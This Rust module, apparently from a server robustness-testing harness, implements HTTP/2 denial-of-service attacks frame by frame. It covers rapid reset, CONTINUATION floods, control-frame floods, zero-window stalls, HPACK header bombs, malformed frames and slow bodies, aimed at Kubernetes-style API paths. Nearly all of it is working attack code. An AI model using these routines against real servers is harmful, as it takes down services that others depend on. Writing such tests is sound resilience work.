//! HTTP/2 as frames (RFC 9113): streams opened to be reset, heads without end, windows that stay shut, control frames by the thousand.
use super::{Attack, Random, Target};
use crate::http::{Client, Stream};
use std::io::{self, Read, Write};

pub const ATTACKS: &[(&str, Attack)] = &[
    ("HTTP/2 rapid reset", rapid_reset),
    ("HTTP/2 CONTINUATION flood", continuation),
    ("HTTP/2 control frame floods", control),
    ("HTTP/2 windows of zero", shut_windows),
    ("HTTP/2 header bombs", header_bombs),
    ("HTTP/2 garbage", garbage),
    ("HTTP/2 slow bodies", slow_bodies),
];

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = (payload.len() as u32).to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A request's head: fields of the static table (RFC 7541, appendix A), and literals of less than 127 bytes.
fn head(method: u8, path: &str) -> Vec<u8> {
    let mut block = vec![method, 0x87, 0x04, path.len() as u8];
    block.extend_from_slice(path.as_bytes());
    block.extend_from_slice(&[0x01, 1, b'a']);
    block
}

const GET: u8 = 0x82;
const POST: u8 = 0x83;

fn open(target: &Target, as_admin: bool, settings: &[(u16, u32)]) -> io::Result<Stream> {
    begin(if as_admin { &target.admin } else { &target.anonymous }, settings)
}

/// A connection that asks for the same so many times and reads nothing yet.
pub fn ask(client: &Client, times: u32, path: &str) -> io::Result<Stream> {
    let mut stream = begin(client, &[])?;
    let requests = streams(times).flat_map(|id| frame(HEADERS, END_HEADERS | END_STREAM, id, &head(GET, path)));
    stream.write_all(&requests.collect::<Vec<u8>>())?;
    // The answer's first bytes: the server has seen who asks.
    read_some(&mut stream);
    Ok(stream)
}

fn begin(client: &Client, settings: &[(u16, u32)]) -> io::Result<Stream> {
    let mut stream = client.connect_with(&[b"h2"])?;
    stream.sock.set_read_timeout(Some(super::PATIENCE))?;
    stream.sock.set_write_timeout(Some(super::PATIENCE))?;
    let settings: Vec<u8> =
        settings.iter().flat_map(|(id, value)| [&id.to_be_bytes()[..], &value.to_be_bytes()].concat()).collect();
    stream.write_all(&[b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &frame(SETTINGS, 0, 0, &settings)[..]].concat())?;
    Ok(stream)
}

/// Odd numbers, as a client counts its streams.
fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| number * 2 + 1)
}

fn read_some(stream: &mut Stream) {
    let _ = stream.read(&mut [0; 16_384]);
}

fn rapid_reset(target: &Target, random: &mut Random) -> io::Result<()> {
    let mut stream = open(target, random.next(2) == 0, &[])?;
    let paths = ["/api/v1/configmaps", "/api/v1/configmaps?watch=true", "/version"];
    for batch in 0..20 {
        let mut bytes = Vec::new();
        for number in streams(100) {
            let id = number + batch * 200;
            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, id, &head(GET, random.pick(&paths))));
            bytes.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
        }
        stream.write_all(&bytes)?;
    }
    read_some(&mut stream);
    Ok(())
}

fn continuation(target: &Target, random: &mut Random) -> io::Result<()> {
    let mut stream = open(target, random.next(2) == 0, &[])?;
    stream.write_all(&frame(HEADERS, END_STREAM, 1, &head(GET, "/version")))?;
    // Literal fields without indexing: "x: yyy...", or nothing at all.
    let empty = random.next(2) == 0;
    let field = [&[0, 1, b'x', 100][..], &[b'y'; 100]].concat();
    let next = frame(CONTINUATION, 0, 1, if empty { &[] } else { &field });
    for _ in 0..200 {
        stream.write_all(&next.repeat(100))?;
    }
    read_some(&mut stream);
    Ok(())
}

fn control(target: &Target, random: &mut Random) -> io::Result<()> {
    let mut stream = open(target, random.next(2) == 0, &[])?;
    let once = match random.next(6) {
        0 => frame(PING, 0, 0, &[7; 8]),
        1 => frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]),
        2 => frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 16]),
        3 => frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
        4 => frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 0, 0]),
        // Of a kind nobody knows.
        _ => frame(77, 0, 0, &[1; 100]),
    };
    for _ in 0..100 {
        stream.write_all(&once.repeat(100))?;
        if target.is_over() {
            break;
        }
    }
    read_some(&mut stream);
    Ok(())
}

/// Asks for much and reads nothing of it, though the connection looks alive.
fn shut_windows(target: &Target, random: &mut Random) -> io::Result<()> {
    let as_admin = random.next(2) == 0;
    let mut all: Vec<Stream> =
        (0..10).map_while(|_| open(target, as_admin, &[(4, random.next(2) as u32)]).ok()).collect();
    let paths = ["/api/v1/configmaps", "/api/v1/configmaps?watch=true", "/version", "/openapi/v2"];
    for stream in &mut all {
        let mut bytes = Vec::new();
        for id in streams(60) {
            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, id, &head(GET, random.pick(&paths))));
        }
        stream.write_all(&bytes)?;
    }
    target.hold();
    Ok(())
}

/// A field put into the table once, and named ten thousand times.
fn header_bombs(target: &Target, random: &mut Random) -> io::Result<()> {
    let mut stream = open(target, random.next(2) == 0, &[])?;
    let mut block = head(GET, "/version");
    block.extend([0x40, 1, b'x', 0x7f]);
    // 127 + 3000 in seven bits and more.
    block.extend([0xb8, 0x17]);
    block.extend([b'y'; 3127 - 127 + 127]);
    block.resize(block.len() + 10_000, 0xbe);
    stream.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, 1, &block))?;
    read_some(&mut stream);
    Ok(())
}

fn garbage(target: &Target, random: &mut Random) -> io::Result<()> {
    for _ in 0..5 {
        let mut stream = open(target, random.next(2) == 0, &[(1, 0), (3, 0), (5, 16_384)])?;
        let mut bytes = Vec::new();
        for _ in 0..50 {
            let len = random.next(300);
            let payload = random.bytes(len);
            bytes.extend(frame(random.next(12) as u8, random.next(256) as u8, random.next(6) as u32, &payload));
        }
        // A length of 16 MB.
        bytes.extend([0xff, 0xff, 0xff, DATA, 0, 0, 0, 0, 1]);
        let _ = stream.write_all(&bytes);
        read_some(&mut stream);
    }
    Ok(())
}

/// Bodies of one byte a frame, empty frames among them, that never end.
fn slow_bodies(target: &Target, random: &mut Random) -> io::Result<()> {
    let mut stream = open(target, random.next(2) == 0, &[])?;
    let mut bytes = Vec::new();
    for id in streams(50) {
        bytes.extend(frame(HEADERS, END_HEADERS, id, &head(POST, "/api/v1/namespaces/default/configmaps")));
        for _ in 0..100 {
            bytes.extend(frame(DATA, 0, id, &b"{"[..random.next(2)]));
        }
    }
    stream.write_all(&bytes)?;
    target.hold();
    Ok(())
}
